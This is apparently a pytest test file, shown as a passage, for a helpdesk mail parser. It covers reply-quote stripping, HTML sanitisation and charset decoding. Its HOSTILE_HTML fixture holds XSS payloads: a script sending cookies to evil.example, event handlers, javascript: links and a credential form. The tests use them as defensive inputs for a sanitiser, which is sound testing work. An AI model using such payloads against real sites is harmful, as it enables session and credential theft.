"""Content of real-world mail (issue 3, items 5 and 6): the visible text without quoted history and
signature, HTML made readable and sanitised, every charset and the usual mislabels, encoded subjects and
filenames, attachments stored by content or refused with a reason, and how `maildctl` shows all of it.

Mails are raw bytes the way clients write them, delivered through the real spool and pipeline."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import re
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from maild.config import Config
from maild.mail.htmltext import html_to_text, sanitize_html
from maild.mail.mailparse import parse_mail
from maild.mail.quotes import visible_text
from maild.storage.attachments import path_of
from maild.storage.db import transaction
from maild.storage.models import Attachment, Desk
from tests.cli import ctl, ok, one_line_error
from tests.conftest import uses_database
from tests.pipeline.helpers import (
    SUP_PATTERN,
    SUPPORT,
    crlf,
    deliver,
    mail,
    make_desk,
    messages,
    tickets,
)

Factory = sessionmaker[Session]


@pytest.fixture(autouse=True)
def _support(request: pytest.FixtureRequest) -> None:
    """The support desk, in every test that has a database (the ones that only parse get none)."""
    if uses_database(request):
        make_desk(request.getfixturevalue("session_factory"), "support", [SUPPORT], SUP_PATTERN)


def set_desk(factory: Factory, **options: Any) -> None:
    with transaction(factory) as session:
        desk = session.scalars(select(Desk).where(Desk.name == "support")).one()
        for key, value in options.items():
            setattr(desk, key, value)


@contextlib.contextmanager
def deadline(seconds: float) -> Iterator[None]:
    """Fail instead of hanging the suite: visible_text once looped forever on trailing quoted lines."""

    def expired(signum: int, frame: object) -> None:
        raise TimeoutError(f"took longer than {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def stored_files(cfg: Config) -> list[Path]:
    return [p for p in Path(cfg.attachment_dir).rglob("*") if p.is_file()]


# --- visible text -----------------------------------------------------------------------------------

QUOTED = "Please try again and tell us the error."
# (id, body as the client writes it, what the customer wrote now)
REPLY_FORMS = [
    (
        "gmail",
        "Thanks, that works now.\n\n"
        "On Sat, Mar 7, 2026 at 9:00 AM Example Support <support@example.com> wrote:\n\n"
        f"> {QUOTED}\n>\n> Kind regards\n> Bob\n",
        "Thanks, that works now.",
    ),
    (
        "gmail-attribution-wrapped",
        "Thanks, that works now.\n\n"
        "On Sat, Mar 7, 2026 at 9:00 AM Example Support Team of ACME Corporation <\n"
        "support@example.com> wrote:\n\n"
        f"> {QUOTED}\n",
        "Thanks, that works now.",
    ),
    (
        "gmail-attribution-wrapped-before-wrote",
        "Thanks, that works now.\n\n"
        "On Sat, Mar 7, 2026 at 9:00 AM Example Support <support@example.com>\n"
        "wrote:\n"
        f"> {QUOTED}\n",
        "Thanks, that works now.",
    ),
    (
        "gmail-german",
        "Danke, jetzt geht es.\n\n"
        "Am Sa., 7. März 2026 um 09:00 Uhr schrieb Example Support <support@example.com>:\n\n"
        "> Bitte versuchen Sie es noch einmal.\n",
        "Danke, jetzt geht es.",
    ),
    (
        "outlook",
        "It still fails with the same error.\n\n"
        "From: Example Support <support@example.com>\n"
        "Sent: Saturday, March 7, 2026 9:00 AM\n"
        "To: Alice Example <alice@customer.example>\n"
        "Subject: RE: [SUP-26-03-1] Printer on fire\n\n"
        f"{QUOTED}\n",
        "It still fails with the same error.",
    ),
    (
        "outlook-bold-labels",
        "It still fails with the same error.\n\n"
        "*From:* Example Support <support@example.com>\n"
        "*Sent:* Saturday, March 7, 2026 9:00 AM\n"
        "*To:* Alice Example <alice@customer.example>\n"
        "*Subject:* RE: [SUP-26-03-1] Printer on fire\n\n"
        f"{QUOTED}\n",
        "It still fails with the same error.",
    ),
    (
        "outlook-german",
        "Es geht leider immer noch nicht.\n\n"
        "Von: Example Support <support@example.com>\n"
        "Gesendet: Samstag, 7. März 2026 09:00\n"
        "An: Alice Example <alice@customer.example>\n"
        "Betreff: AW: [SUP-26-03-1] Drucker brennt\n\n"
        "Bitte versuchen Sie es noch einmal.\n",
        "Es geht leider immer noch nicht.",
    ),
    (
        "original-message",
        "Still broken, see the screenshot.\n\n"
        "-----Original Message-----\n"
        "From: Example Support [mailto:support@example.com]\n"
        "Sent: Saturday, March 07, 2026 9:00 AM\n"
        "To: Alice Example\n"
        "Subject: RE: Printer on fire\n\n"
        f"{QUOTED}\n",
        "Still broken, see the screenshot.",
    ),
    (
        "apple-mail-iphone",
        "Yes, it works now\n\nSent from my iPhone\n\n"
        "> On 7. Mar 2026, at 09:00, Example Support <support@example.com> wrote:\n>\n"
        f"> {QUOTED}\n",
        "Yes, it works now",
    ),
    (
        "thunderbird-german",
        "Danke, geht wieder.\n\nAm 07.03.26 um 09:00 schrieb Example Support:\n"
        "> Bitte versuchen Sie es noch einmal.\n> Gruß\n",
        "Danke, geht wieder.",
    ),
    (
        "thunderbird-english",
        f"Thanks, fixed.\n\nOn 3/7/26 9:00 AM, Example Support wrote:\n> {QUOTED}\n",
        "Thanks, fixed.",
    ),
    (
        "french",
        "Merci, ça marche.\n\n"
        "Le sam. 7 mars 2026 à 09:00, Example Support <support@example.com> a écrit :\n\n"
        "> Veuillez réessayer.\n",
        "Merci, ça marche.",
    ),
    (
        "polish",
        "Dziękuję, działa.\n\n"
        "W dniu 7.03.2026 o 10:00, Example Support <support@example.com> pisze:\n"
        "> Proszę spróbować ponownie.\n",
        "Dziękuję, działa.",
    ),
    (
        "portuguese",
        "Obrigado, agora funciona.\n\n"
        "Em sáb., 7 de mar. de 2026 às 09:00, Example Support <support@example.com> escreveu:\n\n"
        "> Tente novamente.\n",
        "Obrigado, agora funciona.",
    ),
    (
        "hungarian",
        "Köszönöm, most már működik.\n\n"
        "Example Support <support@example.com> ezt írta (időpont: 2026. márc. 7., Szo, 9:00):\n\n"
        "> Kérjük, próbálja újra.\n",
        "Köszönöm, most már működik.",
    ),
    (
        "bottom-posted",
        "On Sat, Mar 7, 2026 at 9:00 AM Example Support <support@example.com> wrote:\n"
        f"> {QUOTED}\n> Did it work?\n\nNo, it did not work: error 0x80070005.\n",
        "No, it did not work: error 0x80070005.",
    ),
    (
        "signature-cut",
        "It works now.\n\nThanks,\nAlice\n",
        "It works now.",
    ),
]


@pytest.mark.parametrize(("body", "expected"), [f[1:] for f in REPLY_FORMS], ids=[f[0] for f in REPLY_FORMS])
def test_visible_text_of_each_client_form(body: str, expected: str) -> None:
    with deadline(5):
        assert visible_text(body) == expected
        # The same with the CRLF of the wire.
        assert visible_text(body.replace("\n", "\r\n")).replace("\r", "") == expected


@pytest.mark.parametrize(("body", "expected"), [f[1:] for f in REPLY_FORMS], ids=[f[0] for f in REPLY_FORMS])
def test_stored_reply_has_visible_and_full_text(
    body: str, expected: str, session_factory: Factory, cfg: Config
) -> None:
    first = deliver(session_factory, cfg, mail(), SUPPORT)
    reply = mail(
        subject=f"Re: [{first.ticket_number}] Printer on fire",
        body=body,
        message_id="<reply@customer.example>",
        extra=[("In-Reply-To", "<first@customer.example>")],
    )
    assert deliver(session_factory, cfg, reply, SUPPORT).outcome == "replied"
    with session_factory() as s:
        _, m = messages(s)
        assert m.visible_text == expected
        assert m.text.strip() == body.strip()  # the full text keeps the quote and the signature
        assert m.threaded_by == "references"


def test_inline_answers_between_quoted_lines_are_kept() -> None:
    body = (
        "On Sat, Mar 7, 2026 at 9:00 AM Example Support <support@example.com> wrote:\n"
        "> Which printer is it?\n\n"
        "The one on floor 2.\n\n"
        "> Which model?\n\n"
        "HP LaserJet 4000.\n\n"
        "> Since when?\n\n"
        "Since Monday.\n"
    )
    with deadline(5):
        shown = visible_text(body)
    answers = [line for line in shown.splitlines() if line.strip()]
    assert answers == ["The one on floor 2.", "HP LaserJet 4000.", "Since Monday."]


def test_a_hyphen_list_is_kept() -> None:
    body = "Steps I tried:\n- restart the printer\n- a new cable\n- another port\n\nNothing helped.\n"
    assert visible_text(body) == body.strip()


def test_a_long_text_after_thanks_is_not_cut_as_a_signature() -> None:
    report = "".join(f"Line {i}: the spooler stops after job {i} with status 0x{i:04x}.\n" for i in range(25))
    body = f"Hello,\n\nThanks,\n{report}\nAlice\n"
    assert visible_text(body) == body.strip()


def test_an_intentional_colon_line_before_a_quoted_error_is_kept() -> None:
    body = (
        "Steps to reproduce:\n1. open Settings\n2. click:\n"
        "> Error 0x80070005: access denied\n> at 09:12:44 in module spooler\n"
    )
    with deadline(5):
        shown = visible_text(body)
    assert shown.startswith("Steps to reproduce:\n1. open Settings\n2. click:")


@pytest.mark.parametrize(
    "body",
    [
        "> hello\n> world\n",
        "My config is:\n> key = value\n> other = 2\n",
        "text\n\n> a\n>\n> b\n\n> c\n",
        ">\n>\n>\n",
    ],
    ids=["only-quote", "colon-then-quote", "quote-blocks", "empty-quote-lines"],
)
def test_text_ending_in_quoted_lines_returns(body: str) -> None:
    """Regression: two or more trailing quoted lines the parser left made visible_text loop forever,
    and with it the pipeline, for any such mail."""
    with deadline(5):
        shown = visible_text(body)
    assert isinstance(shown, str) and shown


def test_long_lines_and_blank_runs_are_kept_and_quick() -> None:
    """The reply parser's regexes are superlinear in line length and in runs of blank lines (a 100 KB
    paragraph on one line took minutes): such lines are hidden from it, and come back whole."""
    paragraph = "Op maandag werkte het, op dinsdag niet. " * 60
    body = (
        f"{paragraph}\n" + "\n" * 5000 + "second paragraph\n\n"
        "On Sat, Mar 7, 2026 at 9:00 AM Example Support <support@example.com> wrote:\n> old\n"
    )
    with deadline(5):
        shown = visible_text(body)
    assert shown.startswith(paragraph.strip() + "\n")
    assert shown.endswith("second paragraph")
    with deadline(5):
        assert visible_text(paragraph * 40) == (paragraph * 40).strip()


def test_indentation_is_content() -> None:
    body = (
        "Our client logs:\n\nTraceback (most recent call last):\n"
        '  File "/srv/app/sync.py", line 88, in push_order\n    resp.raise_for_status()\n'
        "requests.exceptions.HTTPError: 500\n\n"
        "On Sat, Mar 7, 2026 at 9:00 AM Example Support <support@example.com> wrote:\n> old\n"
    )
    assert visible_text(body) == (
        "Our client logs:\n\nTraceback (most recent call last):\n"
        '  File "/srv/app/sync.py", line 88, in push_order\n    resp.raise_for_status()\n'
        "requests.exceptions.HTTPError: 500"
    )


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            "O sistema mostra erro 503.\n\nAtenciosamente,\nJoão Pereira\nPereira & Filhos Ltda.\n",
            "O sistema mostra erro 503.",
        ),
        ("Kétszer terhelték a kártyámat.\n\nÜdvözlettel:\nKovács Péter\n", "Kétszer terhelték a kártyámat."),
        ("Es betrifft auch SAP.\n\nVon meinem iPhone gesendet\n", "Es betrifft auch SAP."),
        ("Funciona agora.\n\nEnviado do meu iPhone\n", "Funciona agora."),
        # A sign-off word inside the text, or followed by a long text, is the customer's.
        (
            "Cordialmente,\n" + "".join(f"linha {i} do relatório\n" for i in range(12)),
            "Cordialmente,\n" + "\n".join(f"linha {i} do relatório" for i in range(12)),
        ),
    ],
    ids=["portuguese", "hungarian", "german-iphone", "portuguese-iphone", "long-text-after-sign-off"],
)
def test_sign_offs_the_parser_has_no_rule_for(body: str, expected: str) -> None:
    assert visible_text(body) == expected


def test_a_mailing_list_footer_is_not_visible() -> None:
    body = (
        "Today's Topics:\n\n   1. Re: DNS on VPN (Ann Lee)\n\n"
        "_______________________________________________\n"
        "linux-users mailing list\nlinux-users@lists.example.org\n"
        "https://lists.example.org/mailman/listinfo/linux-users\n"
    )
    assert visible_text(body) == "Today's Topics:\n\n   1. Re: DNS on VPN (Ann Lee)"


def test_format_flowed_text_is_unflowed(session_factory: Factory, cfg: Config) -> None:
    """RFC 3676, as Thunderbird and Apple Mail send it: a trailing space continues the line."""
    body = (
        "Guten Tag,\n\nseit gestern kann ich mich nicht \nanmelden, obwohl das Passwort \nstimmt.\n\n"
        "Am 07.03.26 um 10:37 schrieb support:\n> thank you for writing. We have \n> opened a ticket.\n"
        "\n-- \nKlaus\n"
    )
    raw = charset_mail("text/plain; charset=UTF-8; format=flowed", body.replace("\n", "\r\n").encode())
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    with session_factory() as s:
        [m] = messages(s)
    assert "seit gestern kann ich mich nicht anmelden, obwohl das Passwort stimmt." in m.text
    assert "> thank you for writing. We have opened a ticket." in m.text
    assert "\n-- \nKlaus" in m.text  # the signature separator is not a soft break
    assert (
        m.visible_text
        == "Guten Tag,\n\nseit gestern kann ich mich nicht anmelden, obwohl das Passwort stimmt."
    )


def test_format_flowed_delsp() -> None:
    raw = charset_mail(
        "text/plain; charset=utf-8; format=flowed; delsp=yes", b"Donau\xc2\xad \r\ndampf \r\nschiff\r\n"
    )
    assert parse_mail(raw).text == "Donau\xaddampfschiff\n"


def test_quote_only_mail_keeps_its_text_visible() -> None:
    assert visible_text("> hello\n> world\n") == "> hello\n> world"


def test_visible_text_of_empty_and_blank_text() -> None:
    assert visible_text("") == ""
    assert visible_text(" \n\n ") == ""


@pytest.mark.parametrize("subject", ["Fwd: Server down", "WG: Server kaputt", "FW: Server down"])
def test_a_forwarded_mail_opening_a_ticket_keeps_its_whole_text_visible(
    subject: str, session_factory: Factory, cfg: Config
) -> None:
    body = (
        "Can you look at this?\n\n"
        "---------- Forwarded message ---------\n"
        "From: Monitoring <alerts@customer.example>\n"
        "Date: Sat, Mar 7, 2026 at 8:55 AM\n"
        "Subject: Server down\n"
        "To: Alice Example <alice@customer.example>\n\n"
        "> host db1 is DOWN since 08:50\n"
        "> check_ping: CRITICAL - 100% packet loss\n"
    )
    assert deliver(session_factory, cfg, mail(subject=subject, body=body), SUPPORT).outcome == "created"
    with session_factory() as s:
        [m] = messages(s)
        assert m.visible_text == body.strip()
        assert "check_ping: CRITICAL" in m.visible_text


def test_a_new_ticket_with_a_quote_shows_only_the_new_text(session_factory: Factory, cfg: Config) -> None:
    body = (
        "We still have this problem.\n\n"
        "On Fri, Mar 6, 2026 at 5:00 PM Bob <bob@customer.example> wrote:\n> the printer is broken\n"
    )
    deliver(session_factory, cfg, mail(body=body), SUPPORT)
    with session_factory() as s:
        [m] = messages(s)
        assert m.visible_text == "We still have this problem."
        assert "the printer is broken" in m.text


# --- HTML -------------------------------------------------------------------------------------------

HOSTILE_HTML = (
    "<html><head><title>t</title><style>body { position: fixed }</style>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script></head>"
    '<body onload="steal()">'
    '<p style="color: red; position: absolute; top: 0" onclick="steal()">Hello&nbsp;team,</p>'
    "<p>the invoice is <b>wrong</b> &amp; <i>late</i>.</p>"
    "<ul><li>item one</li><li>item two</li></ul>"
    "<table><tr><th>Order</th><td>4711</td></tr><tr><th>Amount</th><td>99 &euro;</td></tr></table>"
    '<pre>Traceback (most recent call last):\n  File "app.py", line 1\nValueError: bad</pre>'
    '<p>Screenshot: <img src="cid:shot@customer.example" alt="screenshot"></p>'
    '<img src="x" onerror="steal()">'
    '<a href="javascript:steal()">click</a> <a href="JaVaScRiPt&#58;steal()">again</a> '
    '<a href="https://help.example.com/kb/1">kb article</a>'
    '<iframe src="https://evil.example/"></iframe>'
    '<form action="https://evil.example/"><input name="pw"></form>'
    '<svg onload="steal()"><script>steal()</script></svg>'
    "Line one<br>line two<br/>line three"
    "</body></html>"
)


def html_mail(html: str, *, message_id: str = "<html@customer.example>") -> bytes:
    return crlf(
        "From: Bob <bob@customer.example>\nTo: support@example.com\nSubject: Invoice\n"
        f"Message-ID: {message_id}\nMIME-Version: 1.0\n"
        'Content-Type: text/html; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n\n' + html + "\n"
    )


def test_html_only_mail_becomes_readable_text(session_factory: Factory, cfg: Config) -> None:
    assert deliver(session_factory, cfg, html_mail(HOSTILE_HTML), SUPPORT).outcome == "created"
    with session_factory() as s:
        [m] = messages(s)
    text = m.text
    assert "<" not in text.replace("<module>", "") and "&amp;" not in text and "&nbsp;" not in text
    assert "steal" not in text and "position" not in text and "evil.example" not in text
    assert "the invoice is wrong & late." in text
    lines = text.splitlines()
    assert "- item one" in lines and "- item two" in lines
    assert "Order 4711" in text and "Amount 99 €" in text  # table cells stay apart
    # A pasted traceback keeps its lines.
    assert 'Traceback (most recent call last):\nFile "app.py", line 1\nValueError: bad' in text
    assert "Line one\nline two\nline three" in text  # <br> and <br/> are one line break each
    assert m.visible_text.startswith("Hello")


def test_stored_html_is_sanitised(session_factory: Factory, cfg: Config) -> None:
    deliver(session_factory, cfg, html_mail(HOSTILE_HTML), SUPPORT)
    with session_factory() as s:
        [m] = messages(s)
    html = m.html
    assert html is not None
    lowered = html.lower()
    assert "<script" not in lowered and "steal(" not in lowered
    assert re.search(r"\son[a-z]+\s*=", lowered) is None, html
    assert "javascript" not in lowered
    assert "<iframe" not in lowered and "<form" not in lowered and "<input" not in lowered
    assert "position" not in lowered  # styles cut to what changes how text reads
    # What makes it readable stays: formatting, lists, tables, links, inline images by cid:.
    assert 'src="cid:shot@customer.example"' in html
    for kept in ("<b>wrong</b>", "<i>late</i>", "<li>item one</li>", "<td>4711</td>", "<pre>", "<br>"):
        assert kept in html, kept
    assert 'href="https://help.example.com/kb/1"' in html
    assert "color:red" in html.replace(" ", "")


def test_plain_part_is_preferred_when_both_exist(session_factory: Factory, cfg: Config) -> None:
    raw = crlf(
        "From: Bob <bob@customer.example>\nTo: support@example.com\nSubject: both\n"
        "Message-ID: <alt@customer.example>\nMIME-Version: 1.0\n"
        'Content-Type: multipart/alternative; boundary="alt"\n\n'
        "--alt\nContent-Type: text/plain; charset=utf-8\n\nThe PLAIN rendering.\n"
        "--alt\nContent-Type: text/html; charset=utf-8\n\n<p>The <b>HTML</b> rendering.</p>\n"
        "--alt--\n"
    )
    deliver(session_factory, cfg, raw, SUPPORT)
    with session_factory() as s:
        [m] = messages(s)
        assert m.text.strip() == "The PLAIN rendering."
        assert m.html is not None and "<b>HTML</b>" in m.html
        assert m.attachments == []  # the HTML alternative is not an attachment


def test_html_only_reply_shows_only_the_new_text(session_factory: Factory, cfg: Config) -> None:
    html = (
        '<div dir="ltr">It works now, thank you!</div><br>'
        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Sat, Mar 7, 2026 at 9:00 AM '
        "Example Support &lt;support@example.com&gt; wrote:<br></div>"
        '<blockquote class="gmail_quote">Please try again.</blockquote></div>'
    )
    deliver(session_factory, cfg, html_mail(html), SUPPORT)
    with session_factory() as s:
        [m] = messages(s)
        assert m.visible_text == "It works now, thank you!"
        assert "Please try again." in m.text


def test_html_nested_too_deep_for_the_sanitiser_is_kept_as_text() -> None:
    """html5ever under nh3 is quadratic in the depth of <div>-like nesting (100,000 took 40 s)."""
    html = "<div>" * 5000 + "Hello <b>team</b> <script>steal()</script> &lt;tag&gt;"
    clean = sanitize_html(html)
    assert clean == "<pre>Hello team  &lt;tag&gt;</pre>"  # the script went, its spaces stayed
    # Ordinary nesting is sanitised as HTML.
    assert (
        sanitize_html("<div>" * 100 + "<b>x</b>" + "</div>" * 100)
        == "<div>" * 100 + "<b>x</b>" + "</div>" * 100
    )


def test_html_to_text_edge_cases() -> None:
    assert html_to_text("") == ""
    assert html_to_text("<p>unclosed <b>bold") == "unclosed bold"
    assert html_to_text('<script>var a = "</p>";</script>after') == "after"
    assert html_to_text("<!-- hidden --><p>shown</p>") == "shown"
    assert html_to_text("<style>p {}</style><p>a &lt;b&gt; &amp; c</p>") == "a <b> & c"


# --- charsets ---------------------------------------------------------------------------------------

# Every charset a client is known to label mail with, each with text in its script.
CHARSET_SAMPLES = {
    "us-ascii": "plain ascii text",
    "utf-8": "Grüße 😀 こんにちは Привет",
    "iso-8859-1": "Grüße aus Köln, señor",
    "iso-8859-2": "Zażółć gęślą jaźń",
    "iso-8859-3": "Ĉu vi parolas? ĝ ĥ ĵ ŝ ŭ",
    "iso-8859-4": "Latviešu ķēniņš, ā ī ū",
    "iso-8859-5": "Привет, мир",
    "iso-8859-6": "مرحبا بالعالم",
    "iso-8859-7": "Καλημέρα κόσμε",
    "iso-8859-8": "שלום עולם",
    "iso-8859-9": "Günaydın İstanbul, şğı",
    "iso-8859-10": "Þetta er íslenska ð ŋ",
    "iso-8859-11": "สวัสดีชาวโลก",
    "iso-8859-13": "Labas rytas ąčęėįšųūž",
    "iso-8859-14": "Cymraeg ŵ ŷ ẁ ẃ",
    "iso-8859-15": "Preis 10 €, Œuvre, Šárka",
    "iso-8859-16": "Română: ș ț ă î â €",
    "windows-1250": "Zażółć gęślą jaźń – „cytat”",
    "windows-1251": "Привет, мир – «цитата»",
    "windows-1252": "“Price” 10 € – ok",
    "windows-1253": "Καλημέρα κόσμε – €",
    "windows-1254": "Günaydın İstanbul – €",
    "windows-1255": "שלום עולם – €",
    "windows-1256": "مرحبا بالعالم – €",
    "windows-1257": "Labas rytas ąčęėįšųūž – €",
    "windows-1258": "Xin chào – €",
    "koi8-r": "Привет, мир",
    "koi8-u": "Привіт, світ ї є ґ",
    "cp866": "Привет, мир",
    "macintosh": "Grüße – “ok”",
    "tis-620": "สวัสดีชาวโลก",
    "windows-874": "สวัสดีชาวโลก",
    "shift_jis": "こんにちは、世界。日本語のテスト",
    "windows-31j": "こんにちは、世界。①",
    "euc-jp": "こんにちは、世界。日本語のテスト",
    "iso-2022-jp": "こんにちは、世界。日本語のテスト",
    "gb2312": "你好，世界。中文测试",
    "gbk": "你好，世界。中文測試",
    "gb18030": "你好，世界 😀",
    "hz-gb-2312": "你好，世界",
    "big5": "您好，世界。中文測試",
    "big5-hkscs": "您好，世界",
    "euc-kr": "안녕하세요, 세계",
    "ks_c_5601-1987": "안녕하세요, 세계",
    "iso-2022-kr": "안녕하세요, 세계",
    "utf-16": "Grüße 😀 こんにちは",
    "utf-16le": "Grüße 😀",
    "utf-16be": "Grüße 😀",
    "utf-32": "Grüße 😀",
    "utf-7": "Grüße € 😀",
    # Labels clients write that Python has no alias for.
    "x-sjis": "こんにちは、世界",
    "x-euc-jp": "こんにちは、世界",
    "iso-8859-8-i": "שלום עולם",
    "iso-8859-6-i": "مرحبا بالعالم",
    "x-gbk": "你好，世界。中文測試",
    "csgb2312": "你好，世界",
    "cn-big5": "您好，世界",
    "windows-949": "안녕하세요, 샾",
    "x-mac-roman": "Grüße – “ok”",
    "x-mac-cyrillic": "Привет, мир",
    "x-cp1251": "Привет, мир",
}
_WIDE = ("utf-16", "utf-32")  # NUL bytes in every character: only sent base64 encoded


def charset_mail(content_type: str, payload: bytes, *, cte: str = "8bit", subject: str = "charset") -> bytes:
    head = crlf(
        f"From: Legacy <legacy@customer.example>\nTo: support@example.com\nSubject: {subject}\n"
        f"Message-ID: <charset@customer.example>\nMIME-Version: 1.0\nContent-Type: {content_type}\n"
        f"Content-Transfer-Encoding: {cte}\n\n"
    )
    if cte == "base64":
        payload = base64.encodebytes(payload).replace(b"\n", b"\r\n")
    return head + payload


def _codec(charset: str) -> str:
    """The Python codec to write the sample with (the tested code must find it from the label)."""
    return {
        "windows-874": "cp874",
        "windows-31j": "cp932",
        "x-sjis": "shift_jis",
        "x-euc-jp": "euc_jp",
        "iso-8859-8-i": "iso8859_8",
        "iso-8859-6-i": "iso8859_6",
        "x-gbk": "gbk",
        "csgb2312": "gb2312",
        "cn-big5": "big5",
        "windows-949": "cp949",
        "x-mac-roman": "mac_roman",
        "x-mac-cyrillic": "mac_cyrillic",
        "x-cp1251": "cp1251",
    }.get(charset, charset)


@pytest.mark.parametrize("cte", ["8bit", "base64"])
@pytest.mark.parametrize("charset", list(CHARSET_SAMPLES))
def test_every_charset_is_decoded(charset: str, cte: str) -> None:
    if cte == "8bit" and charset.startswith(_WIDE):
        pytest.skip("not sent 8-bit")
    text = f"{CHARSET_SAMPLES[charset]}\nsecond line\n"
    payload = text.replace("\n", "\r\n").encode(_codec(charset))
    parsed = parse_mail(charset_mail(f'text/plain; charset="{charset}"', payload, cte=cte))
    assert parsed.text == text
    assert not [d for d in parsed.defects if d.startswith("body")]


@pytest.mark.parametrize("charset", ["utf-8", "iso-8859-2", "windows-1251", "shift_jis", "big5", "utf-16"])
def test_charsets_survive_the_database(charset: str, session_factory: Factory, cfg: Config) -> None:
    text = f"{CHARSET_SAMPLES[charset]}\n"
    payload = text.replace("\n", "\r\n").encode(charset)
    raw = charset_mail(f"text/plain; charset={charset}", payload, cte="base64")
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    with session_factory() as s:
        [m] = messages(s)
        assert m.text == text and m.visible_text == text.strip()


def test_charset_in_quoted_printable(session_factory: Factory, cfg: Config) -> None:
    raw = charset_mail(
        "text/plain; charset=iso-8859-15",
        b"Preis: 10 =A4, Gr=FC=DFe =\r\naus K=F6ln\r\n",
        cte="quoted-printable",
    )
    deliver(session_factory, cfg, raw, SUPPORT)
    with session_factory() as s:
        assert messages(s)[0].text == "Preis: 10 €, Grüße aus Köln\n"


@pytest.mark.parametrize(
    ("label", "written_in", "text"),
    [
        ("gb2312", "gbk", "中文測試"),  # traditional characters are GBK, not GB 2312
        ("gb2312", "gb18030", "你好 😀"),
        ("gbk", "gb18030", "你好 😀"),
        ("euc-kr", "cp949", "안녕하세요 샾"),  # a syllable outside KS X 1001
        ("ks_c_5601-1987", "cp949", "안녕하세요 샾"),
        ("shift_jis", "cp932", "番号①②"),  # NEC special characters
        ("big5", "big5hkscs", "佢哋嘅"),  # Hong Kong characters
    ],
)
def test_cjk_labels_for_the_smaller_charset(label: str, written_in: str, text: str) -> None:
    """The sender's software labels its superset with the name of the standard charset."""
    raw = charset_mail(f"text/plain; charset={label}", text.encode(written_in), cte="base64")
    assert parse_mail(raw).text == text


@pytest.mark.parametrize(
    ("label", "codec", "text"),
    [
        ("windows-874", "cp874", "สวัสดี"),
        ("iso-8859-8-i", "iso8859_8", "שלום"),
        ("x-sjis", "shift_jis", "日本"),
    ],
)
def test_rfc2047_words_in_labels_python_lacks(label: str, codec: str, text: str) -> None:
    subject = f"=?{label}?B?{base64.b64encode(text.encode(codec)).decode()}?="
    assert parse_mail(charset_mail("text/plain", b"x", subject=subject)).subject == text


def test_windows_1252_labelled_iso_8859_1(session_factory: Factory, cfg: Config) -> None:
    """Outlook and old webmailers label windows-1252 text Latin-1: 0x80 is €, 0x93/0x94 curly quotes,
    0x96 an en dash, never C1 control characters."""
    text = "“Offer” – 100 € … ‚ok‘ ™\n"
    raw = charset_mail("text/plain; charset=iso-8859-1", text.encode("cp1252"))
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    with session_factory() as s:
        [m] = messages(s)
        assert m.text == text
        assert not re.search("[\x80-\x9f]", m.text)


def test_windows_1252_in_a_latin1_encoded_subject() -> None:
    raw = charset_mail("text/plain", b"x", subject="=?iso-8859-1?Q?=93Angebot=94_=96_100_=80?=")
    assert parse_mail(raw).subject == "“Angebot” – 100 €"


@pytest.mark.parametrize(
    ("content_type", "payload", "expected"),
    [
        ("text/plain", "Grüße aus Köln – Jürgen\n".encode("cp1252"), "Grüße aus Köln – Jürgen\n"),
        ("text/plain", "Grüße aus Köln – Jürgen\n".encode(), "Grüße aus Köln – Jürgen\n"),
        ("text/plain; charset=x-unknown-8bit", "Grüße\n".encode(), "Grüße\n"),
        ("text/plain; charset=x-unknown-8bit", "Grüße\n".encode("cp1252"), "Grüße\n"),
        ('text/plain; charset="utf-8"', "Grüße – “ok”\n".encode("cp1252"), "Grüße – “ok”\n"),
        ("text/plain; charset=us-ascii", "Grüße\n".encode(), "Grüße\n"),
        ("text/plain; charset=", "Grüße\n".encode(), "Grüße\n"),
    ],
    ids=[
        "undeclared-cp1252",
        "undeclared-utf8",
        "unknown-utf8",
        "unknown-cp1252",
        "utf8-label-cp1252",
        "ascii-label-utf8",
        "empty-charset",
    ],
)
def test_undeclared_and_unknown_charsets(content_type: str, payload: bytes, expected: str) -> None:
    raw = charset_mail(content_type, payload.replace(b"\n", b"\r\n"))
    assert parse_mail(raw).text == expected


def test_gbk_characters_in_a_gb2312_encoded_word(session_factory: Factory, cfg: Config) -> None:
    """Foxmail labels GBK as GB2312, in headers too: 堃 exists only in GBK."""
    name = "=?GB2312?B?" + base64.b64encode("王堃".encode("gbk")).decode() + "?="
    subject = "=?GB2312?B?" + base64.b64encode("发票問題".encode("gbk")).decode() + "?="
    raw = crlf(
        f'From: "{name}" <wang.kun@trade.example.cn>\nTo: support@example.com\nSubject: {subject}\n'
        "Message-ID: <gbk@trade.example.cn>\nContent-Type: text/plain; charset=GB2312\n"
        "Content-Transfer-Encoding: base64\n\n"
    ) + base64.encodebytes("联系人：王堃\r\n".encode("gbk")).replace(b"\n", b"\r\n")
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    with session_factory() as s:
        [m] = messages(s)
        assert (m.from_name, m.subject, m.text) == ("王堃", "发票問題", "联系人：王堃\n")
        assert m.ticket.customer.display_name == "王堃"


def test_an_encoded_comma_in_a_name_does_not_split_the_address() -> None:
    raw = crlf(
        "From: =?gb2312?B?"
        + base64.b64encode("王堃, 经理".encode("gbk")).decode()
        + "?= <wang@trade.example.cn>\n"
        "To: support@example.com\n\nx\n"
    )
    parsed = parse_mail(raw)
    assert (parsed.from_name, parsed.from_address) == ("王堃, 经理", "wang@trade.example.cn")


def test_undeclared_8bit_subject() -> None:
    utf8 = crlf("From: a@customer.example\nTo: support@example.com\nSubject: Grüße aus Köln\n\nx\n")
    assert parse_mail(utf8).subject == "Grüße aus Köln"
    cp1252 = "From: a@customer.example\r\nTo: support@example.com\r\nSubject: Grüße aus Köln\r\n\r\nx\r\n"
    assert parse_mail(cp1252.encode("cp1252")).subject == "Grüße aus Köln"


def _b(text: str, charset: str = "utf-8") -> str:
    return base64.b64encode(text.encode(charset)).decode()


@pytest.mark.parametrize(
    ("header", "expected"),
    [
